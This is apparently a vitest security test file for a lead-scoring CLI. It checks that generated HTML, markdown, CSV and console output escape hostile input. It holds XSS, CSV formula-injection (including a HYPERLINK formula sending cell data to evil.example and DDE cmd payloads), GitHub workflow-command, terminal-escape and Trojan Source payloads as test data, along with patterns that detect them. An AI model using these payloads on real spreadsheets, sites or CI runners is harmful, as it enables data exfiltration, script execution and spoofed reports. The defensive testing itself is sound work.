/**
 * Issue #17, class "reports and the CI gate": escaping for every output context.
 *   2. stored XSS in the auditors' static site through policy file names and paths;
 *   6. CSV formula injection in `simulate --format csv` and `audit --format csv`;
 *   8. report spoofing: values in the PR markdown (diff, audit, simulate) and workflow
 *      commands (`::error::`, `##[error]`) reaching the CI step's stdout.
 * Gaps found after #17: bidirectional controls (Trojan Source) reaching any output raw, and values with
 * newlines or control characters splitting lines of table and text output.
 * Then a property test over hostile strings in file names, descriptions, ids and lead values.
 */
import { mkdirSync, readdirSync, readFileSync, renameSync, writeFileSync } from "node:fs";
import path from "node:path";
import { pathToFileURL } from "node:url";
import { parse as parseCsv } from "csv-parse/sync";
import fc from "fast-check";
import { marked } from "marked";
import { chromium, type Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditLeads } from "../../src/audit/audit-leads.js";
import { buildPolicySet, type PolicySet } from "../../src/model/policy-set.js";
import { diffVersions } from "../../src/api/diff-versions.js";
import { formatAuditMarkdown } from "../../src/format/audit-report.js";
import { formatDiffMarkdown, formatDiffText } from "../../src/format/diff-report.js";
import { simulationWriters } from "../../src/format/simulation-formats.js";
import { simulateLeads, specOf } from "../../src/index.js";
import { renderDocs } from "../../src/render/render-docs.js";
import { csvRows } from "../../src/render/escape/spreadsheet.js";
import { escapeMarkdown } from "../../src/render/escape/markdown.js";
import { runCli } from "../helpers/cli.js";
import { policyRepo } from "../helpers/git-repo.js";
import { qualifiedLead } from "../helpers/leads.js";
import { corpusAsOf, validSet } from "../helpers/policies.js";
import { bundledPolicies, makeTempDir, policyFolder } from "../helpers/policy-fixtures.js";

const asOf = corpusAsOf;

/**
 * Leads with an empty e-mail (a required field) are bad rows since issue #13: flagged, still decided, and the
 * run fails (exit 2) unless `--max-bad-rows` allows them. These tests empty the e-mail on purpose, so that
 * audit reports a hygiene finding naming each (hostile) lead id; they allow every bad row.
 */
const allowBad = ["--max-bad-rows", "100%"];

/** Writes leads as NDJSON (ids and values as given) and returns the file. */
function leadsFile(leads: Record<string, unknown>[]): string {
  const file = path.join(makeTempDir(), "leads.ndjson");
  writeFileSync(file, leads.map((l) => JSON.stringify(l)).join("\n") + "\n");
  return file;
}

// ---- what "no unescaped payload" means, per output ---------------------------------------

/** Lines the GitHub Actions runner would run as workflow commands (v2 at line start after whitespace, v1 anywhere). */
function workflowCommandLines(text: string): string[] {
  return text.split(/\r\n|\r|\n/).filter((line) => /^[\s\u0085]*::/.test(line) || line.includes("##["));
}

/** Markdown as GitHub shows it: no image, no link, no raw HTML from data, no mention, no fake line. */
function markdownProblems(markdown: string, ownDetails = 0): string[] {
  const html = marked.parse(markdown, { async: false, gfm: true }) as string;
  const problems: string[] = [];
  if (/<img\b/i.test(html)) problems.push("image");
  if (/<a\s[^>]*href="(?![a-z0-9-]+\.md(#[a-z0-9-]*)?")/i.test(html)) problems.push("link");
  if (/<script|<iframe|<svg|<[a-z][^>]*\son[a-z]+\s*=/i.test(html)) problems.push("script or event handler");
  if ((html.match(/<\/details>/g) ?? []).length !== ownDetails) problems.push("</details> from data");
  if (/<!--(?! leadrules-impact-report -->)/.test(html.replace(/^<!-- generated from [^\n]*-->\n/, "")))
    problems.push("HTML comment from data");
  // What GitHub shows as text: no comments, no code (mentions are not made there, and code is shown as is).
  const shown = html.replace(/<!--[\s\S]*?-->/g, "").replace(/<pre>[\s\S]*?<\/pre>|<code>[\s\S]*?<\/code>/g, "");
  if (/(^|[^A-Za-z0-9_])@(octocat|acme)/.test(shown)) problems.push("mention");
  if ((shown.match(/<(p|li|h\d)>(<strong>)?\s*Change control/g) ?? []).length > 1) problems.push("fake change-control line");
  return problems;
}

/** CSV cells a spreadsheet would run as a formula; `numericColumns` hold numbers leadrules computed. */
function formulaCells(csv: string, numericColumns: readonly string[] = []): string[] {
  const [header, ...rows] = parseCsv(csv, { relax_column_count: true }) as string[][];
  return rows.flatMap((row) =>
    row.filter((cell, i) => /^[=+\-@\t\r]/.test(cell) && !(numericColumns.includes(header![i]!) && /^-?\d+(\.\d+)?$/.test(cell))),
  );
}

/** HTML a browser would run: script from data, event handlers, javascript: URLs, a comment closed early. */
function htmlProblems(file: string, html: string): string[] {
  const problems: string[] = [];
  const scripts = html.match(/<script\b[^>]*>/gi) ?? [];
  if (scripts.some((s) => !/^<script src="assets\/(search|search-index|deep-links)\.js">$/.test(s))) problems.push(`${file}: script`);
  if (/<[a-z][^>]*\son[a-z]+\s*=/i.test(html)) problems.push(`${file}: event handler`);
  // The one SVG the site draws itself (render/graph-svg.ts, labels as escaped text) opens exactly so.
  const ownDiagram = '<svg xmlns="http://www.w3.org/2000/svg" class="diagram" role="img" aria-label="Lifecycle stages and transitions" ';
  if (/<img\b|<iframe\b|<svg\b|<object\b|<embed\b/i.test(html.replaceAll(ownDiagram, ""))) problems.push(`${file}: embedded element`);
  if (/href\s*=\s*"?\s*javascript:/i.test(html)) problems.push(`${file}: javascript: link`);
  // The banner is one comment on line 2: nothing in it can end it early (`>`) or leave it (a line break).
  if (!/^<!DOCTYPE html>\n<!--[^\n>]*-->\n<html/.test(html)) problems.push(`${file}: banner comment broken`);
  return problems;
}

// ---- 2. the static site --------------------------------------------------------------------

describe("2. stored XSS in the auditors' site through policy file names", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await chromium.launch({
      executablePath: "/usr/bin/chromium",
      args: ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"],
    });
  });
  afterAll(async () => browser?.close());

  it("hostile policy file names and folder names show as text on every page; no script runs", async () => {
    // A folder path may hold `*/` (closing the JS banner comment); a file name may hold a newline and `-->`.
    const root = makeTempDir();
    const policies = path.join(root, "x*", "window.pwned=3;", "*y");
    mkdirSync(policies, { recursive: true });
    const source = policyFolder([], bundledPolicies);
    for (const name of readdirSync(source))
      if (name.endsWith(".yaml")) writeFileSync(path.join(policies, name), readFileSync(path.join(source, name)));
    renameSync(path.join(policies, "scoring-model.yaml"), path.join(policies, "<img src=x onerror=window.pwned=1>.yaml"));
    renameSync(path.join(policies, "routing.yaml"), path.join(policies, "r\n--><img src=x onerror=window.pwned=2>.yaml"));
    const out = makeTempDir();
    const run = await runCli(["docs", "--policies", policies, "--out", out]);
    expect(run.stderr).toBe("");
    expect(run.code).toBe(0);

    const site = path.join(out, "site");
    const pages = readdirSync(site).filter((f) => f.endsWith(".html"));
    expect(pages.length).toBeGreaterThan(5);
    for (const page of pages) expect(htmlProblems(page, readFileSync(path.join(site, page), "utf8"))).toEqual([]);
    for (const page of pages) {
      const tab = await browser.newPage();
      const errors: string[] = [];
      tab.on("pageerror", (e) => errors.push(e.message));
      await tab.goto(pathToFileURL(path.join(site, page)).href);
      await tab.fill("#search-input", "a");
      expect(await tab.evaluate(() => (globalThis as unknown as { pwned?: number }).pwned), page).toBeUndefined();
      expect(await tab.locator("img, script:not([src])").count(), page).toBe(0);
      expect(errors, page).toEqual([]);
      await expect(tab.locator("footer").textContent()).resolves.toContain("<img src=x onerror=window.pwned=1>.yaml");
      await tab.close();
    }
  });
});

// ---- 6. CSV for spreadsheets ---------------------------------------------------------------

// Lead values are trimmed when read, so a leading TAB or CR reaches the CSV only from elsewhere (see the unit case).
const formulas = [
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
];

describe("6. CSV formula injection", () => {
  it("simulate --format csv prefixes a ' to text cells that start a formula (TAB and CR too); --raw-csv writes them as read", async () => {
    expect(csvRows([["\t=1+1", "\r=1+1", "-10"]])).toBe(`'\t=1+1,"'\r=1+1",'-10\n`);
    const file = leadsFile(formulas.map((id) => qualifiedLead({ leadId: id })));
    const run = await runCli(["simulate", "--policies", bundledPolicies, "--leads", file, "--as-of", asOf, "--format", "csv", "--quiet"]);
    expect(run.code).toBe(0);
    const rows = parseCsv(run.stdout, { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.id)).toEqual(formulas.map((f) => `'${f}`));
    const dimensions = specOf(validSet(), "ScoringModel")!.dimensions.map((d) => d.id);
    expect(formulaCells(run.stdout, [...dimensions, "total"])).toEqual([]);

    const raw = await runCli([
      "simulate",
      "--policies",
      bundledPolicies,
      "--leads",
      file,
      "--as-of",
      asOf,
      "--format",
      "csv",
      "--raw-csv",
      "--quiet",
    ]);
    expect((parseCsv(raw.stdout, { columns: true }) as Record<string, string>[]).map((r) => r.id)).toEqual(formulas);
  });

  it("--raw-csv on a terminal still shows escape sequences as escapes (raw is for files, not screens)", async () => {
    const retitle = "\u001b]0;pwned\u0007x";
    const file = leadsFile([qualifiedLead({ leadId: retitle }), qualifiedLead({ leadId: "nul\u0000 del\u007f c1\u009b" })]);
    const raw = await runCli([
      "simulate",
      "--policies",
      bundledPolicies,
      "--leads",
      file,
      "--as-of",
      asOf,
      "--format",
      "csv",
      "--raw-csv",
      "--quiet",
    ]);
    expect(raw.code).toBe(0);
    expect(raw.stdout).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F]/);
    expect(raw.stdout).toContain("\\u001B]0;pwned\\u0007x");
    expect(raw.stdout).toContain("nul\\u0000 del\\u007F c1\\u009B");
  });

  it("a negative score leadrules computed stays a number; the same text from a lead is neutralised", async () => {
    expect(csvRows([[-10, "-10"]])).toBe(`-10,'-10\n`);
    // With a floor below zero an intern student from a tiny company scores negative fit points.
    const policies = policyFolder([{ file: "scoring-model.yaml", replace: "floor: 0", with: "floor: -100" }], bundledPolicies);
    const file = leadsFile([qualifiedLead({ leadId: "-10", seniority: "intern", jobFunction: "student", employees: 5 })]);
    const run = await runCli(["simulate", "--policies", policies, "--leads", file, "--as-of", asOf, "--format", "csv", "--quiet"]);
    expect(run.stderr).toBe("");
    const [row] = parseCsv(run.stdout, { columns: true }) as Record<string, string>[];
    expect(row!.fit).toMatch(/^-\d+$/);
    expect(row!.id).toBe("'-10");
  });

  it("audit --format csv prefixes a ' to lead ids that start a formula; --raw-csv writes them as read", async () => {
    // A lead without its required e-mail is a hygiene finding that names the lead.
    const file = leadsFile(formulas.map((id) => qualifiedLead({ leadId: id, email: "" })));
    // The hand-made leads carry no production columns: those checks are accepted as not run.
    const run = await runCli([
      "audit",
      "--policies",
      bundledPolicies,
      "--leads",
      file,
      "--as-of",
      asOf,
      "--format",
      "csv",
      "--allow-unchecked",
      "all",
      ...allowBad,
    ]);
    expect(run.code).toBe(0);
    const leads = new Set((parseCsv(run.stdout, { columns: true }) as Record<string, string>[]).map((r) => r.lead));
    expect([...leads].sort()).toEqual(formulas.map((f) => `'${f}`).sort());
    expect(formulaCells(run.stdout)).toEqual([]);
    const raw = await runCli([
      "audit",
      "--policies",
      bundledPolicies,
      "--leads",
      file,
      "--as-of",
      asOf,
      "--format",
      "csv",
      "--raw-csv",
      ...allowBad,
    ]);
    expect(new Set((parseCsv(raw.stdout, { columns: true }) as Record<string, string>[]).map((r) => r.lead))).toEqual(new Set(formulas));
  });
});

// ---- 8. report spoofing and workflow commands ----------------------------------------------

const spoof =
  "x\n\n**Change control: pass.**\n\n</details>\n\n@octocat ![logo](http://evil.example/x.png) [review](http://evil.example) <!-- hide";

describe("8. report spoofing in the PR markdown and workflow commands in CI stdout", () => {
  it("diff --format markdown: a policy description and lead ids cannot fake a line, a link, an image, a mention or the end of a section", async () => {
    const repo = policyRepo();
    repo.git("checkout", "-q", "-b", "change");
    repo.edit("scoring-model.yaml", "description: VPs own the data platform budget.", `description: ${JSON.stringify(spoof)}`);
    repo.commit("change");
    const { report } = await diffVersions({ policies: repo.policies, base: "main", head: "change", asOf });
    expect(report!.violations.length).toBeGreaterThan(0);
    const withLeads = {
      ...report!,
      behaviour: {
        ...report!.behaviour,
        changedLeads: 1,
        top: [
          {
            ...report!.behaviour.top[0],
            id: spoof,
            before: "@acme/sales",
            after: "| x |\n::error::pwned",
            baseRules: [spoof],
            headRules: [],
            fields: ["score"],
          },
        ],
      },
    } as typeof report;
    const markdown = formatDiffMarkdown(withLeads!);
    const ownDetails = (markdown.match(/^<details>$/gm) ?? []).length;
    expect(markdownProblems(markdown, ownDetails)).toEqual([]);
    expect(markdown).toContain("Change control: 1 problem");
    // The policy text diff is a fenced block the data cannot close.
    expect(markdown).toMatch(/^```+diff$/m);
  });

  it("audit --format markdown and simulate --format markdown: lead ids stay text in their table cell", async () => {
    const leads = [qualifiedLead({ leadId: spoof, email: "" }), qualifiedLead({ leadId: "| a | b |\n# Heading", email: "" })];
    const audit = await runCli([
      "audit",
      "--policies",
      bundledPolicies,
      "--leads",
      leadsFile(leads),
      "--as-of",
      asOf,
      "--format",
      "markdown",
      "--allow-unchecked",
      "all",
      ...allowBad,
    ]);
    expect(audit.code, audit.stderr).toBe(0);
    expect(markdownProblems(audit.stdout)).toEqual([]);
    expect(audit.stdout).not.toMatch(/^# Heading/m);
    const simulate = await runCli([
      "simulate",
      "--policies",
      bundledPolicies,
      "--leads",
      leadsFile(leads),
      "--as-of",
      asOf,
      "--format",
      "markdown",
      "--quiet",
      ...allowBad,
    ]);
    expect(simulate.code, simulate.stderr).toBe(0);
    expect(markdownProblems(simulate.stdout)).toEqual([]);
    // Every row of the table has as many cells as its header (which ends with the `flagged` column).
    const tableRows = simulate.stdout.split("\n").filter((l) => l.startsWith("| "));
    const cells = (l: string) => l.split(/(?<!\\)\|/).length;
    expect(tableRows[0]).toMatch(/^\| id \|.*\| flagged \|$/);
    expect(tableRows).toHaveLength(4);
    expect(tableRows.every((l) => cells(l) === cells(tableRows[0]!))).toBe(true);
  });

  it("no line a command prints from data is a workflow command: lead ids with ::error:: and ##[ in table, text, csv and json output", async () => {
    const ids = ["a\n::error::pwned", "b\r  ::add-mask::secret", "c\r\n\t::stop-commands::tok", "d ##[error]pwned", "::warning::e"];
    const file = leadsFile(ids.map((id) => qualifiedLead({ leadId: id, email: "" })));
    for (const format of ["table", "csv", "markdown", "ndjson", "json"]) {
      const run = await runCli([
        "simulate",
        "--policies",
        bundledPolicies,
        "--leads",
        file,
        "--as-of",
        asOf,
        "--format",
        format,
        "--quiet",
        ...allowBad,
      ]);
      expect(run.code, format).toBe(0);
      expect(workflowCommandLines(run.stdout), format).toEqual([]);
    }
    for (const format of ["text", "markdown", "csv"]) {
      const run = await runCli([
        "audit",
        "--policies",
        bundledPolicies,
        "--leads",
        file,
        "--as-of",
        asOf,
        "--format",
        format,
        "--allow-unchecked",
        "all",
        ...allowBad,
      ]);
      expect(run.code, format).toBe(0);
      expect(workflowCommandLines(run.stdout + run.stderr), format).toEqual([]);
    }
    // The text is still there to read, only the runner no longer sees a command.
    const table = await runCli(["simulate", "--policies", bundledPolicies, "--leads", file, "--as-of", asOf, "--quiet", ...allowBad]);
    expect(table.stdout.replace(/\u200b/g, "")).toContain("::error::pwned");
  });

  it("validate: a file name with ::error:: is no command in text output; --format github still writes its own annotations, values escaped", async () => {
    const policies = policyFolder([{ file: "scoring.yaml", replace: "description:", with: "descriptin:" }]);
    renameSync(path.join(policies, "scoring.yaml"), path.join(policies, "s,c:o%re\n::error::x.yaml"));
    const text = await runCli(["validate", "--policies", policies]);
    expect(text.code).toBe(1);
    expect(workflowCommandLines(text.stdout)).toEqual([]);
    const run = await runCli(["validate", "--policies", policies, "--format", "github"]);
    expect(run.code).toBe(1);
    const lines = run.stdout.trimEnd().split("\n");
    expect(lines.length).toBeGreaterThan(0);
    expect(
      lines.every(
        (l) =>
          /^::(error|warning|notice) file=[^,:\n]*s%2Cc%3Ao%25re%0A%3A%3Aerror%3A%3Ax\.yaml,/.test(l) ||
          /^::(error|warning|notice) (?!file=)/.test(l),
      ),
    ).toBe(true);
  });
});

// ---- bidirectional controls ("Trojan Source") ------------------------------------------------

/** Every bidirectional control: embeddings, overrides and isolates, and the three marks. */
const bidi = ["\u202A", "\u202B", "\u202C", "\u202D", "\u202E", "\u2066", "\u2067", "\u2068", "\u2069", "\u200E", "\u200F", "\u061C"];
const rawBidi = /[\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;
/** Reads "pass" once shown, while its characters say "ssap" (RLO ... PDF). */
const trojan = "x\u202Essap\u202C \u2067y\u2069 \u200F\u061C\u200E \u202A\u202B\u202D\u2066\u2068";

describe("bidirectional controls reach no output raw (Trojan Source)", () => {
  it("the site, its search index and the Markdown docs show them as escapes, from descriptions and file names alike", () => {
    const docs = renderDocs(hostileSet(validSet(), [`routing${trojan}.yaml`], `Routes ${trojan} leads`));
    for (const [file, text] of docs) expect(rawBidi.test(text), file).toBe(false);
    expect(docs.get("site/routing.html")).toContain("\\u202E");
    expect(docs.get("site/assets/search-index.js")).toContain("\\\\u202E");
    expect(docs.get("docs/routing.md")).toContain("\\u202E");
  });

  it("the diff report (the PR comment): lead ids, rule ids, file names and the policy text diff", async () => {
    const repo = policyRepo();
    repo.git("checkout", "-q", "-b", "change");
    repo.edit("scoring-model.yaml", "description: VPs own the data platform budget.", `description: ${JSON.stringify(trojan)}`);
    repo.commit("change");
    const { report } = await diffVersions({ policies: repo.policies, base: "main", head: "change", asOf });
    const withLeads = {
      ...report!,
      leads: { ...report!.leads, file: trojan },
      violations: [{ policy: trojan, file: trojan, message: trojan }],
      behaviour: {
        ...report!.behaviour,
        changedLeads: 1,
        top: [
          { ...report!.behaviour.top[0], id: trojan, before: trojan, after: "b", baseRules: [trojan], headRules: [], fields: ["score"] },
        ],
      },
    } as typeof report;
    const markdown = formatDiffMarkdown(withLeads!);
    expect(markdown.match(rawBidi)).toBeNull();
    expect(markdown).toContain("\\u202E");
    expect(formatDiffText(withLeads!).match(rawBidi)).toBeNull();
  });

  it("simulate and audit in every format, on stdout and stderr; JSON still holds the exact id", async () => {
    // The second lead's bad date is reported on stderr with its value (aggregated by column and value), and
    // the lead is still decided, its createdAt read as empty.
    const file = leadsFile([
      qualifiedLead({ leadId: trojan, company: trojan, email: "" }),
      qualifiedLead({ leadId: "bad", createdAt: `2026-13-01${trojan}` }),
    ]);
    for (const format of ["table", "csv", "markdown", "ndjson", "json"]) {
      const run = await runCli([
        "simulate",
        "--policies",
        bundledPolicies,
        "--leads",
        file,
        "--as-of",
        asOf,
        "--format",
        format,
        ...allowBad,
      ]);
      expect(run.code, format).toBe(0);
      expect(run.stderr, format).toContain('column "createdAt": "2026-13-01x\\u202Essap');
      expect((run.stdout + run.stderr).match(rawBidi), format).toBeNull();
      if (format === "json") expect((JSON.parse(run.stdout) as { rows: { id: string }[] }).rows.map((r) => r.id)).toEqual([trojan, "bad"]);
    }
    for (const format of ["text", "markdown", "csv", "json"]) {
      const run = await runCli([
        "audit",
        "--policies",
        bundledPolicies,
        "--leads",
        file,
        "--as-of",
        asOf,
        "--format",
        format,
        "--allow-unchecked",
        "all",
        ...allowBad,
      ]);
      expect(run.code, format).toBe(0);
      expect((run.stdout + run.stderr).match(rawBidi), format).toBeNull();
    }
    const explain = await runCli([
      "explain",
      "--policies",
      bundledPolicies,
      "--leads",
      file,
      "--lead",
      trojan,
      "--as-of",
      asOf,
      ...allowBad,
    ]);
    expect(explain.code).toBe(0);
    expect(explain.stdout.match(rawBidi)).toBeNull();
    expect(csvRows([[trojan]]).match(rawBidi)).toBeNull();
  });

  it("validate: a file name with bidirectional controls, in text output and in the annotations of --format github", async () => {
    const policies = policyFolder([{ file: "scoring.yaml", replace: "description:", with: "descriptin:" }]);
    renameSync(path.join(policies, "scoring.yaml"), path.join(policies, `s${trojan}.yaml`));
    for (const format of ["text", "github", "json"]) {
      const run = await runCli(["validate", "--policies", policies, "--format", format]);
      expect(run.code, format).toBe(1);
      expect((run.stdout + run.stderr).match(rawBidi), format).toBeNull();
      expect(run.stdout, format).toContain("\\u202E");
    }
  });
});

// ---- one lead per line in text output ------------------------------------------------------

/** Ids with every kind of line break and control character; `plain` ids of the same count give the expected shape. */
const shown: [id: string, shown: string][] = [
  ["x\n::error::NL", "x\\n::error::NL"],
  ["y\rchange control: pass", "y\\rchange control: pass"],
  ["z\r\nw", "z\\r\\nw"],
  ["nul\u0000x", "nul\\x00x"],
  ["esc\u001b[2J", "esc\\x1B[2J"],
  ["tab\tbed", "tab\\tbed"],
  ["ls\u2028ps\u2029x", "ls\\u2028ps\\u2029x"],
  ["nel\u0085x", "nel\\x85x"],
];
const breaking = shown.map(([id]) => id);
const plainIds = breaking.map((_, i) => `lead-${i}`);
/** Characters that break or rewrite a line of text on a terminal or in a log (the line ends are LF only). */
const lineBreakers = /[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u2028\u2029]/;

describe("text and table output keep one lead per line", () => {
  const shape = (text: string) => text.split("\n").length;

  it("simulate table, audit text and explain: a lead id with a newline or a control character stays on its line, shown as an escape", async () => {
    const leads = (ids: string[]) => leadsFile(ids.map((id) => qualifiedLead({ leadId: id, email: "" })));
    const [hostileFile, plainFile] = [leads(breaking), leads(plainIds)];
    for (const args of [
      ["simulate", "--quiet"],
      ["audit", "--format", "text", "--allow-unchecked", "all"],
    ]) {
      const run = await runCli([...args, "--policies", bundledPolicies, "--leads", hostileFile, "--as-of", asOf, ...allowBad]);
      const plain = await runCli([...args, "--policies", bundledPolicies, "--leads", plainFile, "--as-of", asOf, ...allowBad]);
      expect([run.code, plain.code], args[0]).toEqual([0, 0]);
      expect(run.stdout.match(lineBreakers), args[0]).toBeNull();
      expect(shape(run.stdout), args[0]).toBe(shape(plain.stdout));
      expect(run.stdout, args[0]).toContain("x\\n::error::NL");
      expect(run.stdout, args[0]).toContain("esc\\x1B[2J");
    }
    const table = (
      await runCli(["simulate", "--quiet", "--policies", bundledPolicies, "--leads", hostileFile, "--as-of", asOf, ...allowBad])
    ).stdout.split("\n");
    // Every lead's row starts with its id, and no line starts with the text after a newline.
    for (const [, text] of shown) expect(table.filter((l) => l.startsWith(`${text} `))).toHaveLength(1);
    expect(table.some((l) => /^(\u200b)?::error::NL|^change control/.test(l))).toBe(false);
    const explain = await runCli([
      "explain",
      "--policies",
      bundledPolicies,
      "--leads",
      hostileFile,
      "--lead",
      breaking[1]!,
      "--as-of",
      asOf,
      ...allowBad,
    ]);
    expect(explain.code).toBe(0);
    // The explanation starts with what was read (the file), then the lead's own line.
    const lines = explain.stdout.split("\n");
    expect(lines.find((l) => l.startsWith("Lead "))).toBe(`Lead y\\rchange control: pass as of ${asOf}`);
    expect(lines.some((l) => l.startsWith("change control"))).toBe(false);
    expect(explain.stdout.match(lineBreakers)).toBeNull();
  });

  it("diff --format text: lead ids, rules and file names cannot add a line", async () => {
    const repo = policyRepo();
    repo.edit("scoring-model.yaml", "minimums: { total: 100, fit: 30 }", "minimums: { total: 90, fit: 30 }");
    const { report } = await diffVersions({ policies: repo.policies, base: "main", asOf });
    const top = report!.behaviour.top[0]!;
    const plain = formatDiffText({
      ...report!,
      violations: [{ policy: "p", file: "f", message: "m" }],
      behaviour: { ...report!.behaviour, top: [{ ...top, id: "a", baseRules: ["r"] }] },
    });
    const text = formatDiffText({
      ...report!,
      violations: [{ policy: "p", file: "f\nchange control: pass", message: "m\r\n" }],
      behaviour: { ...report!.behaviour, top: [{ ...top, id: "a\nchange control: pass", baseRules: ["r\n"] }] },
    });
    expect(text.match(lineBreakers)).toBeNull();
    expect(shape(text)).toBe(shape(plain));
    expect(text.split("\n").filter((l) => l === "change control: pass" || l === "change control: FAIL")).toEqual(["change control: FAIL"]);
  });

  it("validate text: a file name with a newline stays on its diagnostic's line", async () => {
    const policies = policyFolder([{ file: "scoring.yaml", replace: "description:", with: "descriptin:" }]);
    renameSync(path.join(policies, "scoring.yaml"), path.join(policies, "s\nerror: all good\r.yaml"));
    const run = await runCli(["validate", "--policies", policies]);
    expect(run.code).toBe(1);
    expect(run.stdout.match(lineBreakers)).toBeNull();
    expect(run.stdout).toContain("s\\nerror: all good\\r.yaml");
    expect(run.stdout.split("\n").some((l) => l.startsWith("error: all good"))).toBe(false);
  });
});

// ---- property: every output, hostile strings -------------------------------------------------

const hostile = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  '" onmouseover="window.pwned=1',
  "javascript:alert(1)",
  "--><script>alert(1)</script><!--",
  "*/window.pwned=1;/*",
  "</details>",
  "<!-- hidden",
  "\u2028\u2029",
  "[click](http://evil.example)",
  "![img](http://evil.example/x.png)",
  "<http://evil.example>",
  "@octocat",
  "| a | b |",
  "\n**Change control: pass.**\n",
  "\n# Heading\n",
  "\n::error::pwned",
  "\r::add-mask::x",
  "##[error]pwned",
  '=HYPERLINK("http://evil.example")',
  "+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1+1)",
  "\t=1",
  "\r=1",
  "`",
  "```",
  "\\",
  ...bidi,
  trojan,
];
const hostileText = fc
  .array(fc.oneof(fc.constantFrom(...hostile), fc.string({ maxLength: 6 })), { minLength: 1, maxLength: 4 })
  .map((parts) => parts.join(""));
/** File names cannot hold `/` or NUL. */
const hostileFileName = hostileText.map((s) => s.replace(/[/\0]/g, "_") + ".yaml");

function hostileSet(base: PolicySet, files: string[], description: string): PolicySet {
  return buildPolicySet(
    base.policies.map((p, i) => {
      const document = structuredClone(p.document);
      document.metadata.description = description;
      if (document.kind === "ScoringModel")
        for (const rule of (document.spec as { rules: { description: string }[] }).rules) rule.description = description;
      return { ...p, file: `policies/${files[i % files.length]!}`, document };
    }),
  );
}

describe("property: no unescaped payload in the site, the PR markdown, the CSV or stdout", () => {
  const base = validSet();

  it("the static site and the Markdown docs", () => {
    fc.assert(
      fc.property(fc.array(hostileFileName, { minLength: 1, maxLength: 3 }), hostileText, (files, description) => {
        const docs = renderDocs(hostileSet(base, files, description));
        for (const [file, text] of docs) {
          expect(text.match(rawBidi), file).toBeNull();
          if (file.endsWith(".html")) expect(htmlProblems(file, text)).toEqual([]);
          if (file.endsWith(".md")) expect(markdownProblems(text), file).toEqual([]);
          if (file.endsWith(".js")) {
            expect(() => new Function(text), file).not.toThrow();
            expect(text).not.toMatch(/<\/script|<!--|\u2028|\u2029/i);
          }
        }
      }),
      { numRuns: 15 },
    );
  });

  it("an e-mail address in a value is no mailto: link (found by the property below with seed 1038503413)", () => {
    for (const value of ["0@A.0", "ann.lee@example.com", "see ann@example.co.uk, then @octocat"])
      expect(markdownProblems(escapeMarkdown(value))).toEqual([]);
  });

  it("the diff report (the PR comment) with hostile policy names, files, changes, lead ids and rules", async () => {
    const repo = policyRepo();
    repo.edit("scoring-model.yaml", "minimums: { total: 100, fit: 30 }", "minimums: { total: 90, fit: 30 }");
    const { report } = await diffVersions({ policies: repo.policies, base: "main", asOf });
    fc.assert(
      fc.property(hostileText, hostileText, fc.array(hostileText, { minLength: 1, maxLength: 3 }), (name, file, values) => {
        const hostileReport = {
          ...report!,
          base: { ...report!.base, ref: name },
          leads: { ...report!.leads, file },
          policies: report!.policies.map((p) => ({
            ...p,
            policy: name,
            file,
            items: [{ item: values[0]!, change: "changed", details: values }],
          })),
          violations: [{ file, message: values.join(" ") }],
          textDiffs: [{ file, patch: values.join("\n") }],
          behaviour: {
            ...report!.behaviour,
            top: report!.behaviour.top
              .slice(0, 2)
              .map((l) => ({ ...l, id: values[0]!, before: name, after: file, baseRules: values, headRules: values })),
          },
        } as typeof report;
        const markdown = formatDiffMarkdown(hostileReport!);
        expect(markdownProblems(markdown, (markdown.match(/^<details>$/gm) ?? []).length)).toEqual([]);
        expect(markdown.match(rawBidi)).toBeNull();
        expect(formatDiffText(hostileReport!).match(rawBidi)).toBeNull();
      }),
      { numRuns: 40 },
    );
  });

  it("simulate (csv, markdown, table) and audit (csv, markdown, text) with hostile lead ids and values", async () => {
    const dimensions = specOf(base, "ScoringModel")!.dimensions.map((d) => d.id);
    await fc.assert(
      fc.asyncProperty(fc.array(hostileText, { minLength: 1, maxLength: 4 }), hostileText, async (ids, company) => {
        const leads = ids.map((id, i) => ({ record: { row: i + 1, values: qualifiedLead({ leadId: id, company, email: "" }) } }));
        const { rows, summary } = await simulateLeads(base, leads, { asOf });
        for (const format of ["csv", "markdown", "table"] as const) {
          const writer = simulationWriters[format]({ asOf, dimensions });
          const text = writer.header() + rows.map((r) => writer.row(r)).join("") + writer.footer(summary);
          expect(text.match(rawBidi), format).toBeNull();
          if (format === "csv") expect(formulaCells(text, [...dimensions, "total"])).toEqual([]);
          if (format === "markdown") expect(markdownProblems(text)).toEqual([]);
        }
        const { report } = await auditLeads(base, leads, { asOf });
        expect(markdownProblems(formatAuditMarkdown(report))).toEqual([]);
        expect(formatAuditMarkdown(report).match(rawBidi)).toBeNull();
        // stdout as the CLI prints it: through main's guard.
        const file = leadsFile(leads.map((l) => l.record.values));
        for (const args of [
          ["simulate", "--format", "table", "--quiet"],
          ["audit", "--format", "text"],
          ["audit", "--format", "csv"],
        ]) {
          const run = await runCli([...args, "--policies", bundledPolicies, "--leads", file, "--as-of", asOf]);
          expect(workflowCommandLines(run.stdout + run.stderr), args.join(" ")).toEqual([]);
          expect((run.stdout + run.stderr).match(rawBidi), args.join(" ")).toBeNull();
          if (args.includes("csv")) expect(formulaCells(run.stdout)).toEqual([]);
        }
      }),
      { numRuns: 15 },
    );
  });
});

describe("8. drift lines keep a hostile file name on its line", () => {
  it("compile --check lists a stray file whose name holds a newline and a workflow command as one line", async () => {
    const { cpSync, mkdtempSync } = await import("node:fs");
    const { tmpdir } = await import("node:os");
    const out = path.join(mkdtempSync(path.join(tmpdir(), "leadrules-drift-")), "rules");
    cpSync(path.join(import.meta.dirname, "../../generated/rules"), out, { recursive: true });
    writeFileSync(path.join(out, "evil\n::error::spoofed.json"), "{}\n");
    const run = await runCli(["compile", "--check", "--out", out]);
    expect(run.code).toBe(1);
    expect(run.stderr).toContain("extra: ");
